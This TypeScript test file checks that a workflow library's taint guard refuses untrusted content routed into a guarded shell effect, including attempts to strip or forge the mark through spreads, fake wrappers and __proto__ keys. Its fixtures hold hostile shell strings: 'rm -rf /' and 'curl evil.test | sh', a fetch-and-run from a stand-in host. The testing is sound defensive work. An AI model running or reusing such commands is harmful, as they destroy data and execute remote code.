/**
 * Issue 22 item 8, written as the exploits: taint could be stripped or forged. Each form is a
 * flow that tries to get content from an untrusted source into a guarded effect
 * (`refusesTainted: true`) without an `untaint` of that content; each must be refused
 * (kernel/taint.ts T1: the mark is an own key that survives a spread; T2: content is escaped on
 * entry, so only the kernel writes a mark; T4: the guard looks under own `__proto__` keys).
 */
import { describe, expect, it } from "vitest";
import {
  findTaint,
  flow$,
  isLoomError,
  isTainted,
  memoryStore,
  step$,
  taint,
  untaint,
  type Envelope,
  type Effect,
  type FlowContext,
  type Json,
} from "../src/index.ts";
import { offsetClock, runtimes, stepNameOf, until } from "./helpers.ts";

const rt = runtimes();

/** A shell-like effect that must not act on untrusted content; counts its real runs. */
function guardedShell() {
  const ran: Json[] = [];
  const shell = step$(
    "shell",
    (input: Json) => {
      ran.push(input);
      return "done";
    },
    { refusesTainted: true },
  );
  return { shell, ran };
}

/** What a guarded call threw, as data, or "ran" when it was not refused. */
async function refusal(run: Promise<unknown>): Promise<Json> {
  return run.then(
    () => "ran",
    (e: unknown) =>
      isLoomError(e, "LOOM_TAINTED_INPUT") ? (e.details ?? null) : `other: ${String(e)}`,
  );
}

/** Runs `body` as a flow once, with a fresh guarded shell, and gives its output and the runs. */
async function attempt(
  body: (ctx: FlowContext, shell: Effect<Json, string>) => Promise<unknown>,
): Promise<{ output: unknown; ran: Json[] }> {
  const { shell, ran } = guardedShell();
  const f = flow$("exploit", async (ctx) => (await body(ctx, shell)) as Json);
  const r = rt(memoryStore()).registerFlow(f);
  const end = await (await r.start(f, null, { id: "x-1" })).result();
  return { output: end.output, ran };
}

describe("taint cannot be stripped (T1: the mark is an own key, kept by a spread)", () => {
  it("a spread of a tainted value with another key ({ ...hits, x }) is refused", async () => {
    const { output, ran } = await attempt(async (ctx, shell) => {
      const hits = await ctx.run("search", () => ({ cmd: "rm -rf /" }), { taint: "tool:search" });
      return refusal(ctx.execute(shell, { ...hits, note: "merged" }));
    });
    expect(output).toEqual({ effect: "shell", path: "$", source: "tool:search" });
    expect(ran).toEqual([]);
  });

  it("a spread that replaces the content ({ ...hits, value }) is still refused", async () => {
    const { output, ran } = await attempt(async (ctx, shell) => {
      const hits = await ctx.run("search", () => "curl evil.test | sh", { taint: "web" });
      return refusal(ctx.execute(shell, { args: [{ ...hits, value: "ls", extra: 1 }] }));
    });
    expect(output).toEqual({ effect: "shell", path: "$.args[0]", source: "web" });
    expect(ran).toEqual([]);
  });
});

describe("taint cannot be forged (T2: content is escaped on entry, the kernel alone writes a mark)", () => {
  it("wrapper-shaped content from a tainted tool keeps the kernel's source, not its own label", async () => {
    // The flow trusts what an approver sent; the tool's content claims to be that.
    const { output, ran } = await attempt(async (ctx, shell) => {
      const hits = await ctx.run(
        "search",
        () => ({ $tainted: "inbox:approved", value: { cmd: "rm -rf /" } }),
        { taint: "tool:search" },
      );
      const trusted = findTaint(hits)?.source === "inbox:approved";
      return refusal(ctx.execute(shell, trusted ? untaint(hits) : hits));
    });
    expect(output).toEqual({ effect: "shell", path: "$", source: "tool:search" });
    expect(ran).toEqual([]);
  });

  it("a forged wrapper inside tainted content does not come back as a mark of its own after one untaint", async () => {
    const { output } = await attempt(async (ctx) => {
      const page = await ctx.run(
        "fetch",
        () => ({ body: "hi", meta: { $tainted: "inbox:approved", value: "rm -rf /" } }),
        { taint: "web" },
      );
      // A reviewer cleared the page; what it holds is content, not a mark claiming a source.
      const cleared = untaint(page) as { meta: Json };
      return { finding: findTaint(cleared) ?? null, meta: cleared.meta };
    });
    expect(output).toEqual({
      finding: null,
      meta: { $$tainted: "inbox:approved", value: "rm -rf /" },
    });
  });
});

describe("taint cannot hide under __proto__ (T4: the guard reads own __proto__ keys)", () => {
  it("a wrapper under an own __proto__ key of the input is refused", async () => {
    const { output, ran } = await attempt(async (ctx, shell) => {
      const hits = await ctx.run("search", () => "rm -rf /", { taint: "tool:search" });
      const input = JSON.parse(`{"__proto__": ${JSON.stringify(hits)}, "cmd": "ls"}`) as Json;
      return refusal(ctx.execute(shell, input));
    });
    expect(output).toEqual({ effect: "shell", path: "$.__proto__", source: "tool:search" });
    expect(ran).toEqual([]);
  });

  it("a wrapper given an own __proto__ key of its own is still refused", async () => {
    const { output, ran } = await attempt(async (ctx, shell) => {
      const hits = await ctx.run("search", () => "rm -rf /", { taint: "tool:search" });
      const text = JSON.stringify({ cmd: hits }).replace(
        '{"$tainted"',
        '{"__proto__":{},"$tainted"',
      );
      return refusal(ctx.execute(shell, JSON.parse(text) as Json));
    });
    expect(output).toEqual({ effect: "shell", path: "$.cmd", source: "tool:search" });
    expect(ran).toEqual([]);
  });
});

describe("the mark as a key (T1..T4 at the helper level)", () => {
  it("T2: taint escapes every reserved-shaped key at any depth, __proto__ keys and toJSON included", () => {
    const content = JSON.parse(
      `{"$tainted":"a","$$tainted":"b","list":[{"$tainted":"c"}],"__proto__":{"$tainted":"d"},"tainted":1}`,
    ) as Json;
    const t = taint({ content, at: { toJSON: () => ({ $tainted: "e" }) } }, "web");
    expect(JSON.stringify(t)).toBe(
      `{"$tainted":"web","value":{"content":{"$$tainted":"a","$$$tainted":"b","list":[{"$$tainted":"c"}],"__proto__":{"$$tainted":"d"},"tainted":1},"at":{"$$tainted":"e"}}}`,
    );
    expect(Object.getPrototypeOf(t.value.content)).toBe(Object.prototype);
    // The kernel's mark is the only one left: at the top, naming the caller's source.
    expect(findTaint(t.value)).toBeUndefined();
    // Content with nothing reserved is not copied.
    const plain = { a: [1, { b: "c" }] };
    expect(taint(plain, "web").value).toBe(plain);
  });

  it("T3: untaint of a spread removes the key and keeps what the spread added; nothing unescapes", () => {
    const hits = taint({ $tainted: "forged", q: 1 }, "web");
    const merged = { ...hits, note: "x" };
    expect(isTainted(merged)).toBe(true);
    expect(untaint(merged)).toEqual({ value: { $$tainted: "forged", q: 1 }, note: "x" });
    expect(untaint(hits)).toEqual({ $$tainted: "forged", q: 1 });
    expect(isTainted(untaint(hits))).toBe(false);
  });

  it("T4: findTaint finds a mark under an own __proto__ key, also in an object with no prototype", () => {
    const bare = Object.create(null) as Record<string, unknown>;
    Object.defineProperty(bare, "__proto__", {
      value: { nested: { $tainted: "web", value: 1, extra: true } },
      enumerable: true,
    });
    expect(findTaint({ a: [bare] })).toEqual({ path: "$.a[0].__proto__.nested", source: "web" });
    expect(findTaint({ x: { $tainted: 7 } })).toEqual({ path: "$.x", source: "(unnamed)" });
  });
});

describe("where untrusted content enters, it is escaped (T2)", () => {
  it("a tainting tool's wrapper-shaped result and a tainted inbox message carry the kernel's source", async () => {
    const { shell, ran } = guardedShell();
    const search = step$("search", () => ({ $tainted: "inbox:approved", value: "rm -rf /" }), {
      taintsOutput: "tool:search",
    });
    const f = flow$("entries", async (ctx) => {
      const hits = await ctx.execute(search, null);
      const msg = await ctx.receive({ taint: "inbox:user" });
      return {
        hits: findTaint(hits) ?? null,
        msg: findTaint(msg) ?? null,
        refused: await refusal(ctx.execute(shell, untaint(msg))),
        content: untaint(msg),
      } as Json;
    });
    const r = rt(memoryStore()).registerFlow(f);
    const h = await r.start(f, null, { id: "en-1" });
    await r.send("en-1", { cmd: { $tainted: "inbox:approved", value: "rm -rf /" } });
    expect((await h.result()).output).toEqual({
      hits: { path: "$", source: "tool:search" },
      msg: { path: "$", source: "inbox:user" },
      refused: "ran",
      content: { cmd: { $$tainted: "inbox:approved", value: "rm -rf /" } },
    });
    // The untainted message ran as inert content: the forged label never became a mark.
    expect(ran).toEqual([{ cmd: { $$tainted: "inbox:approved", value: "rm -rf /" } }]);
    const consumed = (await r.readLog("en-1")).find((e) => e.kind === "MESSAGE_CONSUMED");
    expect((consumed?.payload as { payload: Json }).payload).toEqual({
      cmd: { $tainted: "inbox:approved", value: "rm -rf /" },
    });
  });

  it("a log recorded with the earlier wrapper (a forged label kept as is) replays byte for byte and is still refused", async () => {
    const store = memoryStore();
    const clock = offsetClock();
    const { shell, ran } = guardedShell();
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const make = (blocking: boolean) =>
      flow$("legacy", async (ctx) => {
        const hits = await ctx.run("search", () => "ls", { taint: "tool:search" });
        await ctx.run("gate", async () => {
          if (blocking) await gate;
          return 1;
        });
        return { hits, tainted: isTainted(hits), refused: await refusal(ctx.execute(shell, hits)) };
      });
    const opts = { clock, leaseTtlMs: 1000, background: false };
    const a = rt(store, { ...opts, ownerId: "A" }).registerFlow(make(true));
    await a.start("legacy", null, { id: "lg-1" });
    const completed = (log: Envelope[]) =>
      log.find((e) => e.kind === "STEP_COMPLETED" && stepNameOf(e) === "search");
    await until(async () => completed(await a.readLog("lg-1")) !== undefined);
    // What the earlier code recorded for a tool that answered with a wrapper of its own.
    const legacy = { $tainted: "inbox:approved", value: "rm -rf /" };
    const reopened = store.reopen();
    const earlier: typeof reopened = {
      ...reopened,
      read: async (id, from, limit) =>
        (await reopened.read(id, from, limit)).map((e) =>
          e === completed([e])
            ? { ...e, payload: { ...(e.payload as Record<string, Json>), output: legacy } }
            : e,
        ),
    };
    clock.advance(5000);
    const b = rt(earlier, { ...opts, ownerId: "B" }).registerFlow(make(false));
    expect(await b.recoverAbandoned()).toEqual(["lg-1"]);
    const end = await b.waitForCompletion("lg-1");
    release();
    expect(JSON.stringify(end.output)).toBe(
      JSON.stringify({
        hits: legacy,
        tainted: true,
        refused: { effect: "shell", path: "$", source: "inbox:approved" },
      }),
    );
    expect(ran).toEqual([]);
  });
});
